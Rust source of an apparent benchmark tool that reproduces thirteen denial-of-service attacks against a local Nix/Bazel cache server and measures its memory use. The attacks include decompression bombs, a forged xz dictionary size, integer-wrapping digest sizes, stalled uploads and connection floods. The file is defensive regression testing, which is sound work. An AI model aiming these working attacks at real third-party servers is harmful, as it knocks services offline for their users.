//! Hostile inputs against a running `garret serve`, one attack at a time,
//! with the server's peak RSS during each (issue 10's reproductions).
//!
//! `benches/scripts/hostile.sh` starts a fresh server, creates the caches
//! and runs this once per attack:
//!
//! ```text
//! garret-hostile --url http://127.0.0.1:PORT --pid PID --token ADMIN_JWT \
//!     [--cache NAME] [--bar-mib 300] [--hold-secs 5] ATTACK... | all
//! garret-hostile --header      # the table's header rows
//! ```
//!
//! Each attack prints one Markdown table row: what the server answered, its
//! RSS before, its peak RSS during the attack (`VmHWM`, reset before the
//! attack through `/proc/PID/clear_refs`), its RSS after, the CPU time it
//! spent, and the verdict against the bar. It measures, it assumes nothing:
//! the same run works on a server with or without the fixes. Every attack is
//! bounded in size and time; all load goes to the URL given (loopback).
//!
//! Exit status: 0 if every attack passed, 1 if one exceeded the bar or was
//! not answered as required, 2 if the server died (or was not running).

// Figures for humans: float precision and 64-bit sizes are not a concern.
#![allow(
    clippy::cast_precision_loss,
    clippy::cast_possible_truncation,
    clippy::cast_possible_wrap,
    clippy::cast_sign_loss
)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures::{StreamExt as _, stream};
use garret_benches::{Probe, pseudo_random, run_seed, uuid};
use garret_nix::{Sha256Hash, Sha256Hasher};
use garret_proto::bytestream::WriteRequest;
use garret_proto::bytestream::byte_stream_client::ByteStreamClient;
use garret_proto::reapi::action_cache_client::ActionCacheClient;
use garret_proto::reapi::compressor::Value as Compressor;
use garret_proto::reapi::content_addressable_storage_client::ContentAddressableStorageClient;
use garret_proto::reapi::{
    ActionResult, BatchReadBlobsRequest, BatchUpdateBlobsRequest, Digest, GetActionResultRequest,
    GetTreeRequest, OutputDirectory, UpdateActionResultRequest, batch_update_blobs_request,
};
use prost::Message as _;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tonic::transport::Channel;

const MIB: u64 = 1 << 20;

/// No attack runs longer than this; its answer then says so.
const ATTACK_LIMIT: Duration = Duration::from_mins(5);

/// Every attack, in the order `all` runs them, with what it does.
const ATTACKS: &[(&str, &str)] = &[
    (
        "2a",
        "BatchUpdateBlobs, zstd: a 10-byte entry whose digest claims 60 GiB",
    ),
    (
        "2b",
        "BatchUpdateBlobs, zstd: a 32 KiB frame of zeros whose digest claims 1 GiB",
    ),
    (
        "3",
        "BatchReadBlobs, anonymous: sizes that wrap the total to 0, 100 copies of 4 MiB blobs",
    ),
    (
        "4",
        "a 200 MiB blob as GetTree root ×2, as AC tree_digest: UpdateActionResult, GetActionResult ×2, HTTP GET /ac ×2",
    ),
    ("5", "ByteStream Write of 100,000 one-byte messages"),
    (
        "6",
        "1000 idle connections + 100 half-sent request heads, then GET nix-cache-info",
    ),
    (
        "7a",
        "50 concurrent anonymous get-missing-paths with 16 MiB JSON bodies",
    ),
    (
        "7b",
        "200 anonymous upload-path with a 1 MiB preamble, stalled 1 KiB short",
    ),
    (
        "8a",
        "200 narinfo PUTs (token), 1 MiB declared, stalled 1 KiB short",
    ),
    (
        "8b",
        "100 Bazel HTTP AC PUTs (token), 4 MiB declared, stalled 1 KiB short",
    ),
    (
        "9",
        "PUT .nar.xz: 1 GiB NAR of zeros in ~150 KiB of xz declaring a 1.5 GiB dictionary",
    ),
    ("10", "PUT .nar.zst: 2 GiB NAR of zeros in ~64 KiB of zstd"),
    (
        "11",
        "2000 ByteStream Writes of one 1 MiB message each, abandoned without finish_write",
    ),
];

#[derive(Debug)]
struct Args {
    url: String,
    pid: u32,
    token: String,
    cache: String,
    bar_mib: u64,
    hold: Duration,
    attacks: Vec<String>,
    header: bool,
}

fn usage() -> ! {
    eprintln!(
        "usage: garret-hostile --url URL --pid PID --token JWT [--cache NAME] [--bar-mib 300] \
         [--hold-secs 5] ATTACK...|all\n       garret-hostile --header\nattacks:"
    );
    for (name, what) in ATTACKS {
        eprintln!("  {name:>3}  {what}");
    }
    std::process::exit(64);
}

fn parse_args() -> Args {
    let mut args = Args {
        url: String::new(),
        pid: 0,
        token: String::new(),
        cache: "hostile".into(),
        bar_mib: 300,
        hold: Duration::from_secs(5),
        attacks: Vec::new(),
        header: false,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| usage());
        match arg.as_str() {
            "--url" => value().trim_end_matches('/').clone_into(&mut args.url),
            "--pid" => args.pid = value().parse().unwrap_or_else(|_| usage()),
            "--token" => args.token = value(),
            "--cache" => args.cache = value(),
            "--bar-mib" => args.bar_mib = value().parse().unwrap_or_else(|_| usage()),
            "--hold-secs" => {
                args.hold = Duration::from_secs(value().parse().unwrap_or_else(|_| usage()));
            }
            "--header" => args.header = true,
            "all" => args
                .attacks
                .extend(ATTACKS.iter().map(|(n, _)| (*n).to_owned())),
            name if ATTACKS.iter().any(|(n, _)| *n == name) => args.attacks.push(arg),
            _ => usage(),
        }
    }
    let unaddressed = args.url.is_empty() || args.pid == 0 || args.token.is_empty();
    if (args.attacks.is_empty() && !args.header) || (!args.attacks.is_empty() && unaddressed) {
        usage();
    }
    args
}

// ---------------------------------------------------------------------------
// The server process, through /proc (`garret_benches::Probe`).

/// Reads `VmHWM` every 50 ms on its own thread, so a server that dies
/// mid-attack still leaves its last known peak.
struct Sampler {
    stop: Arc<AtomicBool>,
    peak_kib: Arc<AtomicU64>,
    thread: std::thread::JoinHandle<()>,
}

impl Sampler {
    fn start(probe: Probe) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let peak_kib = Arc::new(AtomicU64::new(0));
        let thread = std::thread::spawn({
            let (stop, peak) = (Arc::clone(&stop), Arc::clone(&peak_kib));
            move || {
                while !stop.load(Ordering::Relaxed) {
                    if let Some((hwm, _)) = probe.memory_kib() {
                        peak.fetch_max(hwm, Ordering::Relaxed);
                    }
                    std::thread::sleep(Duration::from_millis(50));
                }
            }
        });
        Self {
            stop,
            peak_kib,
            thread,
        }
    }

    fn finish(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        let _ = self.thread.join();
        self.peak_kib.load(Ordering::Relaxed)
    }
}

// ---------------------------------------------------------------------------
// What an attack reports.

/// The server's answer, in words, and whether it met the attack's
/// functional requirement (most attacks have none beyond the RSS bar).
#[derive(Debug)]
struct Answer {
    text: String,
    required_ok: bool,
}

impl Answer {
    fn of(text: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            required_ok: true,
        }
    }
}

/// Counts of distinct outcomes, printed as `A ×3, B ×1`.
#[derive(Debug, Default)]
struct Tally(BTreeMap<String, usize>);

impl Tally {
    fn add(&mut self, outcome: impl Into<String>) {
        *self.0.entry(outcome.into()).or_default() += 1;
    }
}

impl std::fmt::Display for Tally {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut first = true;
        for (outcome, n) in &self.0 {
            if !first {
                f.write_str(", ")?;
            }
            first = false;
            if *n == 1 {
                write!(f, "{outcome}")?;
            } else {
                write!(f, "{outcome} ×{n}")?;
            }
        }
        Ok(())
    }
}

/// A gRPC status as its code; a call the server never answered (the
/// connection broke) says so.
fn code_name(status: &tonic::Status) -> String {
    let code = status.code();
    if code == tonic::Code::Unknown && status.metadata().is_empty() {
        // The innermost cause: "stream error received: …", "connection
        // closed before message completed", …
        let mut cause: &dyn std::error::Error = status;
        while let Some(inner) = cause.source() {
            cause = inner;
        }
        let why = cause.to_string();
        return format!("no answer: {}", why.chars().take(60).collect::<String>());
    }
    format!("{code:?}")
}

fn rpc_code_name(status: Option<&garret_proto::rpc::Status>) -> String {
    format!("{:?}", tonic::Code::from_i32(status.map_or(0, |s| s.code)))
}

// ---------------------------------------------------------------------------
// Inputs.

/// The hex SHA-256 of `seed`: a digest nobody stored.
fn fake_hash(seed: u64) -> String {
    Sha256Hash::of(&seed.to_le_bytes()).to_hex()
}

fn digest(hash: String, size: u64) -> Digest {
    Digest {
        hash,
        size_bytes: size as i64,
    }
}

fn digest_of(data: &[u8]) -> Digest {
    digest(Sha256Hash::of(data).to_hex(), data.len() as u64)
}

/// A valid store path hash (32 nix32 characters) for `n`.
fn store_path_hash(n: u64) -> String {
    const ALPHABET: &[u8] = b"0123456789abcdfghijklmnpqrsvwxyz";
    let mut out = vec![b'0'; 32];
    let mut rest = n;
    for slot in out.iter_mut().rev() {
        *slot = ALPHABET[(rest % 32) as usize];
        rest /= 32;
    }
    String::from_utf8(out).expect("ASCII")
}

/// A NAR string: length, bytes, zero padding to 8.
fn nar_str(out: &mut Vec<u8>, s: &[u8]) {
    out.extend_from_slice(&(s.len() as u64).to_le_bytes());
    out.extend_from_slice(s);
    out.resize(out.len().next_multiple_of(8), 0);
}

/// Feeds the NAR of one regular file of `size` zero bytes to `sink`.
fn write_zero_nar(sink: &mut dyn std::io::Write, size: u64) -> std::io::Result<()> {
    let mut head = Vec::new();
    for token in [
        &b"nix-archive-1"[..],
        b"(",
        b"type",
        b"regular",
        b"contents",
    ] {
        nar_str(&mut head, token);
    }
    head.extend_from_slice(&size.to_le_bytes());
    sink.write_all(&head)?;
    let zeros = vec![0u8; MIB as usize];
    let mut left = size;
    while left > 0 {
        let n = left.min(MIB);
        sink.write_all(&zeros[..n as usize])?;
        left -= n;
    }
    let mut tail = vec![0u8; (size.next_multiple_of(8) - size) as usize];
    nar_str(&mut tail, b")");
    sink.write_all(&tail)
}

/// CRC-32 (IEEE), as the xz container uses.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
        }
    }
    !crc
}

/// Rewrites the LZMA2 dictionary size in the first block header of an xz
/// stream (and the header's CRC). The data stays valid: it only ever
/// refers back within the small dictionary it was made with.
fn declare_xz_dictionary(xz: &mut [u8], props: u8) -> Result<(), String> {
    fn varint(data: &[u8], pos: &mut usize) -> Result<u64, String> {
        let mut value = 0u64;
        for shift in (0..63).step_by(7) {
            let byte = *data.get(*pos).ok_or("truncated xz block header")?;
            *pos += 1;
            value |= u64::from(byte & 0x7f) << shift;
            if byte & 0x80 == 0 {
                return Ok(value);
            }
        }
        Err("bad varint in xz block header".into())
    }
    let start = 12; // after the stream header
    let header_len = (usize::from(*xz.get(start).ok_or("no xz block")?) + 1) * 4;
    let flags = xz[start + 1];
    let mut pos = start + 2;
    if flags & 0x40 != 0 {
        varint(xz, &mut pos)?;
    }
    if flags & 0x80 != 0 {
        varint(xz, &mut pos)?;
    }
    if varint(xz, &mut pos)? != 0x21 || varint(xz, &mut pos)? != 1 {
        return Err("the first filter is not LZMA2".into());
    }
    xz[pos] = props;
    let crc_at = start + header_len - 4;
    let crc = crc32(&xz[start..crc_at]);
    xz[crc_at..crc_at + 4].copy_from_slice(&crc.to_le_bytes());
    Ok(())
}

// ---------------------------------------------------------------------------
// Clients.

struct Ctx {
    url: String,
    addr: String,
    token: String,
    cache: String,
    hold: Duration,
    seed: u64,
    channel: Channel,
    http: reqwest::Client,
}

impl Ctx {
    fn new(args: &Args) -> Result<Self, String> {
        let addr = args
            .url
            .strip_prefix("http://")
            .ok_or("--url must be http://host:port")?
            .to_owned();
        let channel = Channel::from_shared(args.url.clone())
            .map_err(|e| e.to_string())?
            .connect_lazy();
        Ok(Self {
            url: args.url.clone(),
            addr,
            token: args.token.clone(),
            cache: args.cache.clone(),
            hold: args.hold,
            seed: run_seed(),
            channel,
            http: reqwest::Client::builder()
                .timeout(Duration::from_mins(2))
                .build()
                .map_err(|e| e.to_string())?,
        })
    }

    fn seed(&self, n: u64) -> u64 {
        self.seed
            .wrapping_add(n.wrapping_mul(0x9e37_79b9_7f4a_7c15))
    }

    fn cas(&self) -> ContentAddressableStorageClient<Channel> {
        ContentAddressableStorageClient::new(self.channel.clone())
            .max_decoding_message_size(usize::MAX)
            .max_encoding_message_size(usize::MAX)
    }

    fn ac(&self) -> ActionCacheClient<Channel> {
        ActionCacheClient::new(self.channel.clone())
            .max_decoding_message_size(usize::MAX)
            .max_encoding_message_size(usize::MAX)
    }

    fn bytestream(&self) -> ByteStreamClient<Channel> {
        ByteStreamClient::new(self.channel.clone())
            .max_decoding_message_size(usize::MAX)
            .max_encoding_message_size(usize::MAX)
    }

    /// A gRPC request, with the admin token if `authed`.
    fn request<T>(&self, message: T, authed: bool) -> tonic::Request<T> {
        let mut request = tonic::Request::new(message);
        if authed {
            request.metadata_mut().insert(
                "authorization",
                format!("Bearer {}", self.token)
                    .parse()
                    .expect("a JWT is ASCII"),
            );
        }
        request
    }

    /// A ByteStream Write of `data` (default instance, with the token) in
    /// messages of `piece` bytes; the committed size.
    async fn write_blob(&self, data: Bytes, piece: usize, seed: u64) -> Result<i64, tonic::Status> {
        let d = digest_of(&data);
        let name = format!("uploads/{}/blobs/{}/{}", uuid(seed), d.hash, d.size_bytes);
        let pieces = data.len().div_ceil(piece).max(1);
        let messages = (0..pieces).map(move |i| {
            let start = i * piece;
            let end = (start + piece).min(data.len());
            WriteRequest {
                resource_name: if i == 0 { name.clone() } else { String::new() },
                write_offset: start as i64,
                finish_write: i + 1 == pieces,
                data: data.slice(start..end),
            }
        });
        let reply = self
            .bytestream()
            .write(self.request(stream::iter(messages), true))
            .await?;
        Ok(reply.into_inner().committed_size)
    }

    /// Opens `count` HTTP/1.1 requests that send `head` and `body_prefix`
    /// and then nothing; the connections that opened.
    async fn stall(
        &self,
        count: usize,
        head: impl Fn(usize) -> String,
        body_prefix: Bytes,
    ) -> (Vec<TcpStream>, Tally) {
        let mut failed = Tally::default();
        let heads: Vec<String> = (0..count).map(head).collect();
        let results: Vec<std::io::Result<(TcpStream, bool)>> = stream::iter(heads)
            .map(|head| {
                let body = body_prefix.clone();
                let addr = self.addr.clone();
                let hold = self.hold;
                async move {
                    let mut socket = TcpStream::connect(&addr).await?;
                    socket.write_all(head.as_bytes()).await?;
                    // A server that stops reading (a memory budget spent)
                    // pushes back; the connection is then stalled anyway.
                    let pushed_back = tokio::time::timeout(hold, socket.write_all(&body))
                        .await
                        .map_or(Ok(true), |sent| sent.map(|()| false))?;
                    Ok((socket, pushed_back))
                }
            })
            .buffer_unordered(32)
            .collect()
            .await;
        let mut sockets = Vec::new();
        for result in results {
            match result {
                Ok((socket, pushed_back)) => {
                    if pushed_back {
                        failed.add("server stopped reading".to_owned());
                    }
                    sockets.push(socket);
                }
                Err(e) => failed.add(format!("send failed: {}", e.kind())),
            }
        }
        (sockets, failed)
    }
}

/// What happened to stalled connections by now: still open, answered
/// (status line), or closed.
async fn survey(sockets: &mut [TcpStream], mut tally: Tally) -> Tally {
    for socket in sockets {
        let mut buf = [0u8; 64];
        let outcome =
            match tokio::time::timeout(Duration::from_millis(20), socket.read(&mut buf)).await {
                Err(_) => "held open".to_owned(),
                Ok(Ok(0)) => "closed".to_owned(),
                Ok(Ok(n)) => {
                    let text = String::from_utf8_lossy(&buf[..n]);
                    let status = text.split_whitespace().nth(1).unwrap_or("?").to_owned();
                    format!("answered {status}")
                }
                Ok(Err(e)) => format!("{}", e.kind()),
            };
        tally.add(outcome);
    }
    tally
}

// ---------------------------------------------------------------------------
// The attacks.

async fn run_attack(ctx: &Ctx, name: &str) -> Answer {
    match name {
        "2a" => attack_2a(ctx).await,
        "2b" => attack_2b(ctx).await,
        "3" => attack_3(ctx).await,
        "4" => attack_4(ctx).await,
        "5" => attack_5(ctx).await,
        "6" => attack_6(ctx).await,
        "7a" => attack_7a(ctx).await,
        "7b" => attack_7b(ctx).await,
        "8a" => attack_8a(ctx).await,
        "8b" => attack_8b(ctx).await,
        "9" => attack_9(ctx).await,
        "10" => attack_10(ctx).await,
        "11" => attack_11(ctx).await,
        _ => unreachable!("names are checked when parsed"),
    }
}

/// One zstd entry in a BatchUpdateBlobs (default instance, with the token).
async fn batch_update_zstd(ctx: &Ctx, claimed: Digest, data: Bytes) -> String {
    let request = BatchUpdateBlobsRequest {
        requests: vec![batch_update_blobs_request::Request {
            digest: Some(claimed),
            data,
            compressor: Compressor::Zstd as i32,
        }],
        ..Default::default()
    };
    match ctx
        .cas()
        .batch_update_blobs(ctx.request(request, true))
        .await
    {
        Ok(reply) => {
            let mut tally = Tally::default();
            for entry in reply.into_inner().responses {
                tally.add(format!("entry {}", rpc_code_name(entry.status.as_ref())));
            }
            format!("OK: {tally}")
        }
        Err(status) => code_name(&status),
    }
}

async fn attack_2a(ctx: &Ctx) -> Answer {
    let claimed = digest(fake_hash(ctx.seed(1)), 60 << 30);
    Answer::of(batch_update_zstd(ctx, claimed, Bytes::from_static(b"0123456789")).await)
}

async fn attack_2b(ctx: &Ctx) -> Answer {
    // A real frame of 1 GiB of zeros, and its real digest.
    let (frame, hash) = tokio::task::spawn_blocking(|| {
        let mut encoder = zstd::stream::Encoder::new(Vec::new(), 3).expect("zstd encoder");
        let mut hasher = Sha256Hasher::new();
        let zeros = vec![0u8; MIB as usize];
        for _ in 0..1024 {
            encoder.write_all(&zeros).expect("in memory");
            hasher.update(&zeros);
        }
        (encoder.finish().expect("in memory"), hasher.finish().0)
    })
    .await
    .expect("encoder thread");
    let len = frame.len();
    let answer = batch_update_zstd(ctx, digest(hash.to_hex(), 1 << 30), frame.into()).await;
    Answer::of(format!("{answer} ({} KiB frame)", len >> 10))
}

async fn attack_3(ctx: &Ctx) -> Answer {
    const BLOB: usize = 4 << 20;
    const COPIES: usize = 100;
    let mut blobs = Vec::new();
    for i in 0..3 {
        let data = pseudo_random(BLOB, ctx.seed(30 + i));
        if let Err(status) = ctx
            .write_blob(data.clone(), 1 << 20, ctx.seed(40 + i))
            .await
        {
            return Answer::of(format!("setup: Write {}", code_name(&status)));
        }
        blobs.push(digest_of(&data));
    }
    // Two missing digests whose sizes bring the u64 total to exactly 0.
    let real: u64 = (COPIES * BLOB) as u64;
    let first = i64::MAX as u64;
    let second = 0u64.wrapping_sub(real).wrapping_sub(first);
    let mut digests = vec![
        digest(fake_hash(ctx.seed(31)), first),
        digest(fake_hash(ctx.seed(32)), second),
    ];
    digests.extend((0..COPIES).map(|i| blobs[i % blobs.len()].clone()));
    let request = BatchReadBlobsRequest {
        digests,
        ..Default::default()
    };
    match ctx
        .cas()
        .batch_read_blobs(ctx.request(request, false))
        .await
    {
        Ok(reply) => {
            let reply = reply.into_inner();
            let bytes: usize = reply.responses.iter().map(|r| r.data.len()).sum();
            let mut tally = Tally::default();
            for entry in &reply.responses {
                tally.add(rpc_code_name(entry.status.as_ref()));
            }
            Answer::of(format!("OK, {} MiB of data: {tally}", bytes >> 20))
        }
        Err(status) => Answer::of(code_name(&status)),
    }
}

async fn attack_4(ctx: &Ctx) -> Answer {
    let blob = pseudo_random(200 << 20, ctx.seed(4));
    let tree = digest_of(&blob);
    if let Err(status) = ctx.write_blob(blob, 1 << 20, ctx.seed(41)).await {
        return Answer::of(format!("setup: Write {}", code_name(&status)));
    }
    let result = ActionResult {
        output_directories: vec![OutputDirectory {
            path: "out".into(),
            tree_digest: Some(tree.clone()),
            ..Default::default()
        }],
        ..Default::default()
    };
    // Stored through Bazel's HTTP cache, which keeps an AC entry as sent.
    let action = fake_hash(ctx.seed(42));
    let put = ctx
        .http
        .put(format!("{}/ac/{action}", ctx.url))
        .bearer_auth(&ctx.token)
        .body(result.encode_to_vec())
        .send()
        .await;
    let put = match put {
        Ok(r) => r.status().as_u16().to_string(),
        Err(e) => format!("error {e}"),
    };

    let get_tree = |_| async {
        let request = GetTreeRequest {
            root_digest: Some(tree.clone()),
            ..Default::default()
        };
        let outcome = match ctx.cas().get_tree(ctx.request(request, false)).await {
            Ok(reply) => match reply.into_inner().message().await {
                Ok(_) => "OK".to_owned(),
                Err(status) => code_name(&status),
            },
            Err(status) => code_name(&status),
        };
        format!("GetTree {outcome}")
    };
    let update = async {
        let request = UpdateActionResultRequest {
            action_digest: Some(digest(fake_hash(ctx.seed(43)), 100)),
            action_result: Some(result.clone()),
            ..Default::default()
        };
        match ctx
            .ac()
            .update_action_result(ctx.request(request, true))
            .await
        {
            Ok(_) => "UpdateActionResult OK".to_owned(),
            Err(status) => format!("UpdateActionResult {}", code_name(&status)),
        }
    };
    let get_result = |_| async {
        let request = GetActionResultRequest {
            action_digest: Some(digest(action.clone(), 100)),
            ..Default::default()
        };
        match ctx
            .ac()
            .get_action_result(ctx.request(request, false))
            .await
        {
            Ok(_) => "GetActionResult OK".to_owned(),
            Err(status) => format!("GetActionResult {}", code_name(&status)),
        }
    };
    let http_get = |_| async {
        match ctx
            .http
            .get(format!("{}/ac/{action}", ctx.url))
            .send()
            .await
        {
            Ok(r) => format!("GET /ac {}", r.status().as_u16()),
            Err(e) => format!("GET /ac error {}", e.without_url()),
        }
    };
    let (trees, updated, results, gets) = tokio::join!(
        futures::future::join_all((0..2).map(get_tree)),
        update,
        futures::future::join_all((0..2).map(get_result)),
        futures::future::join_all((0..2).map(http_get)),
    );
    let mut tally = Tally::default();
    for outcome in trees
        .into_iter()
        .chain([updated])
        .chain(results)
        .chain(gets)
    {
        tally.add(outcome);
    }
    Answer::of(format!("PUT /ac {put}; {tally}"))
}

async fn attack_5(ctx: &Ctx) -> Answer {
    let data = pseudo_random(100_000, ctx.seed(5));
    let started = Instant::now();
    let outcome = match ctx.write_blob(data, 1, ctx.seed(51)).await {
        Ok(committed) => format!("OK, committed {committed}"),
        Err(status) => code_name(&status),
    };
    Answer::of(format!(
        "{outcome} in {:.1} s",
        started.elapsed().as_secs_f64()
    ))
}

async fn attack_6(ctx: &Ctx) -> Answer {
    let mut idle = Vec::new();
    let mut failed = Tally::default();
    for _ in 0..1000 {
        match TcpStream::connect(&ctx.addr).await {
            Ok(socket) => idle.push(socket),
            Err(e) => failed.add(format!("connect {}", e.kind())),
        }
    }
    let head = |i: usize| {
        format!(
            "GET /{}/nix-cache-info HTTP/1.1\r\nHost: {}\r\nX-Partial-{i}: ",
            ctx.cache, ctx.addr
        )
    };
    let (half, more_failed) = ctx.stall(100, head, Bytes::new()).await;
    for (outcome, n) in more_failed.0 {
        *failed.0.entry(outcome).or_default() += n;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    // A fresh client, as a Nix substituter would come.
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()
        .expect("client");
    let started = Instant::now();
    let probe = client
        .get(format!("{}/{}/nix-cache-info", ctx.url, ctx.cache))
        .send()
        .await;
    let ms = started.elapsed().as_millis();
    let (probe, ok) = match probe {
        Ok(r) => (
            format!("nix-cache-info {} in {ms} ms", r.status().as_u16()),
            r.status().is_success(),
        ),
        Err(e) if e.is_timeout() => ("nix-cache-info: no answer in 10 s".to_owned(), false),
        Err(e) => (format!("nix-cache-info: {}", e.without_url()), false),
    };
    tokio::time::sleep(ctx.hold.saturating_sub(Duration::from_secs(1))).await;
    let opened = format!("{} idle + {} half-open", idle.len(), half.len());
    drop((idle, half));
    let failed = if failed.0.is_empty() {
        String::new()
    } else {
        format!(" ({failed})")
    };
    Answer {
        text: format!("{opened}{failed}; {probe}"),
        required_ok: ok,
    }
}

async fn attack_7a(ctx: &Ctx) -> Answer {
    const BODY: usize = (16 << 20) - 1024;
    let mut json = format!("{{\"cache\":\"{}\",\"store_path_hashes\":[", ctx.cache);
    let mut n = 0;
    while json.len() + 40 < BODY {
        if n > 0 {
            json.push(',');
        }
        let _ = write!(json, "\"{}\"", store_path_hash(n));
        n += 1;
    }
    json.push_str("]}");
    let body = Bytes::from(json);
    let outcomes: Vec<String> = futures::future::join_all((0..50).map(|_| async {
        match ctx
            .http
            .post(format!("{}/_api/v1/get-missing-paths", ctx.url))
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .await
        {
            Ok(r) => r.status().as_u16().to_string(),
            Err(e) if e.is_timeout() => "timeout".to_owned(),
            Err(e) => format!("error {}", e.without_url()),
        }
    }))
    .await;
    let mut tally = Tally::default();
    for outcome in outcomes {
        tally.add(outcome);
    }
    Answer::of(format!(
        "{tally} ({n} hashes, {} MiB each)",
        body.len() >> 20
    ))
}

/// `count` stalled uploads, held for the hold time, then surveyed.
async fn hold_stalled(
    ctx: &Ctx,
    count: usize,
    head: impl Fn(usize) -> String,
    body_prefix: Bytes,
) -> Answer {
    let (mut sockets, failed) = ctx.stall(count, head, body_prefix).await;
    tokio::time::sleep(ctx.hold).await;
    let tally = survey(&mut sockets, failed).await;
    Answer::of(format!("after {} s: {tally}", ctx.hold.as_secs()))
}

async fn attack_7b(ctx: &Ctx) -> Answer {
    const PREAMBLE: usize = 1 << 20;
    let head = |_| {
        format!(
            "PUT /_api/v1/upload-path HTTP/1.1\r\nHost: {}\r\n\
             Content-Type: application/octet-stream\r\n\
             X-Attic-Nar-Info-Preamble-Size: {PREAMBLE}\r\nContent-Length: {}\r\n\r\n",
            ctx.addr,
            2 * PREAMBLE
        )
    };
    let mut prefix = format!("{{\"cache\":\"{}\",\"store_path_hash\":\"", ctx.cache).into_bytes();
    prefix.resize(PREAMBLE - 1024, b'a');
    hold_stalled(ctx, 200, head, prefix.into()).await
}

async fn attack_8a(ctx: &Ctx) -> Answer {
    const DECLARED: usize = 1 << 20;
    let head = |i: usize| {
        format!(
            "PUT /{}/{}.narinfo HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\n\
             Content-Type: text/x-nix-narinfo\r\nContent-Length: {DECLARED}\r\n\r\n",
            ctx.cache,
            store_path_hash(ctx.seed(80 + i as u64)),
            ctx.addr,
            ctx.token
        )
    };
    let mut prefix = b"StorePath: /nix/store/".to_vec();
    prefix.resize(DECLARED - 1024, b'a');
    hold_stalled(ctx, 200, head, prefix.into()).await
}

async fn attack_8b(ctx: &Ctx) -> Answer {
    const DECLARED: usize = 4 << 20;
    let head = |i: usize| {
        format!(
            "PUT /ac/{} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\n\
             Content-Length: {DECLARED}\r\n\r\n",
            fake_hash(ctx.seed(800 + i as u64)),
            ctx.addr,
            ctx.token
        )
    };
    hold_stalled(ctx, 100, head, pseudo_random(DECLARED - 1024, ctx.seed(8))).await
}

/// `PUT /{cache}/nar/<file hash>.nar.<ext>` of `file`, with the token.
async fn put_nar(ctx: &Ctx, file: Vec<u8>, ext: &str) -> String {
    let file_hash = Sha256Hash::of(&file).to_nix32();
    let len = file.len();
    let started = Instant::now();
    let outcome = match ctx
        .http
        .put(format!(
            "{}/{}/nar/{file_hash}.nar.{ext}",
            ctx.url, ctx.cache
        ))
        .bearer_auth(&ctx.token)
        .body(file)
        .send()
        .await
    {
        Ok(r) => r.status().as_u16().to_string(),
        Err(e) if e.is_timeout() => "timeout".to_owned(),
        Err(e) => format!("error {}", e.without_url()),
    };
    format!(
        "{outcome} in {:.1} s ({} KiB file)",
        started.elapsed().as_secs_f64(),
        len >> 10
    )
}

async fn attack_9(ctx: &Ctx) -> Answer {
    // xz of the NAR with a 1 MiB dictionary (cheap to make), then declared
    // as 1.5 GiB (LZMA2 property 37 = 3 << 29): decoding it fills 1 GiB of
    // that dictionary.
    let made = tokio::task::spawn_blocking(|| -> Result<Vec<u8>, String> {
        let mut xz = std::process::Command::new("xz")
            .args(["-T1", "--format=xz", "--lzma2=preset=0,dict=1MiB", "-c"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .map_err(|e| format!("running xz: {e}"))?;
        let mut stdin = xz.stdin.take().expect("piped");
        let feeder = std::thread::spawn(move || write_zero_nar(&mut stdin, 1 << 30));
        let mut out = Vec::new();
        xz.stdout
            .take()
            .expect("piped")
            .read_to_end(&mut out)
            .map_err(|e| e.to_string())?;
        feeder
            .join()
            .expect("feeder")
            .map_err(|e| format!("feeding xz: {e}"))?;
        if !xz.wait().map_err(|e| e.to_string())?.success() {
            return Err("xz failed".into());
        }
        declare_xz_dictionary(&mut out, 37)?;
        Ok(out)
    })
    .await
    .expect("xz thread");
    match made {
        Ok(file) => Answer::of(put_nar(ctx, file, "xz").await),
        Err(e) => Answer {
            text: format!("harness: {e}"),
            required_ok: false,
        },
    }
}

async fn attack_10(ctx: &Ctx) -> Answer {
    let file = tokio::task::spawn_blocking(|| {
        let mut encoder = zstd::stream::Encoder::new(Vec::new(), 3).expect("zstd encoder");
        write_zero_nar(&mut encoder, 2 << 30).expect("in memory");
        encoder.finish().expect("in memory")
    })
    .await
    .expect("encoder thread");
    Answer::of(put_nar(ctx, file, "zst").await)
}

async fn attack_11(ctx: &Ctx) -> Answer {
    let data = pseudo_random(1 << 20, ctx.seed(11));
    let outcomes: Vec<String> = stream::iter(0..2000u64)
        .map(|i| {
            let data = data.clone();
            async move {
                let name = format!(
                    "uploads/{}/blobs/{}/{}",
                    uuid(ctx.seed(1100 + i)),
                    fake_hash(ctx.seed(110_000 + i)),
                    2 << 20
                );
                let message = WriteRequest {
                    resource_name: name,
                    write_offset: 0,
                    finish_write: false,
                    data,
                };
                match ctx
                    .bytestream()
                    .write(ctx.request(stream::iter([message]), true))
                    .await
                {
                    Ok(_) => "OK".to_owned(),
                    Err(status) => code_name(&status),
                }
            }
        })
        .buffer_unordered(16)
        .collect()
        .await;
    let mut tally = Tally::default();
    for outcome in outcomes {
        tally.add(outcome);
    }
    Answer::of(tally.to_string())
}

// ---------------------------------------------------------------------------

fn header(bar_mib: u64) {
    println!(
        "| attack | server's answer | RSS before | peak RSS | RSS after | server CPU | wall | ≤ {bar_mib} MiB |"
    );
    println!("| --- | --- | --- | --- | --- | --- | --- | --- |");
}

#[tokio::main]
async fn main() -> ExitCode {
    let args = parse_args();
    if args.header {
        header(args.bar_mib);
    }
